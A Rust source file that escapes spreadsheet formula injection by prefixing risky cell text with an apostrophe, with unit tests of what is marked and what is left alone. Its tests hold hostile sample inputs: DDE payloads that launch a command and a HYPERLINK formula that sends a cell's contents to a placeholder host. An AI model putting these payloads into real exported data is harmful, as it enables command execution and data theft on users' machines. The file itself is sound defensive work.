//! Texts that a spreadsheet would take for formulas.

use std::borrow::Cow;

/// What a formula begins with, in letters of either width.
const BEGINS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// A text as a cell shows it: one that a spreadsheet would run has `'` in front, which spreadsheets take for the mark of a text.
///
/// A number is none, whatever its sign. Nor is a single sign, by which tables tell that there is nothing.
pub fn harmless(text: &str) -> Cow<'_, str> {
    // Some readers leave out what nobody sees before they look at what is there.
    let shown = text.trim_start_matches(is_unseen);
    let begins_one = shown.starts_with(BEGINS) && shown.chars().nth(1).is_some() && !is_number(text);
    match begins_one || text.starts_with(['\t', '\r']) {
        true => Cow::Owned(format!("'{text}")),
        false => Cow::Borrowed(text),
    }
}

fn is_unseen(c: char) -> bool {
    c.is_whitespace()
        || c.is_control()
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let (whole, rest) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, rest].iter().all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_would_run_is_marked_as_text() {
        for text in [
            "=1+1",
            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "\u{a0}=1+1",
            "\u{feff}=1+1",
            "\u{200b}\u{202e}@x",
            "＝1+1",
            "＋1+1",
            "－1+1",
            "＠x",
            "-5 degrees",
            "--",
            "\tx",
        ] {
            assert_eq!(harmless(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn all_else_stays_as_it_is() {
        for text in [
            "",
            "Ferry sails",
            "a=b",
            "1-2",
            "-5",
            "+5.25",
            "-0.5",
            "-",
            "=",
            "– said the mate",
            "“=x”",
            "'=x",
            " x",
            "http://x.example/?a=1",
            "2007-12-10",
        ] {
            assert!(matches!(harmless(text), Cow::Borrowed(same) if same == text), "{text:?}");
        }
    }
}
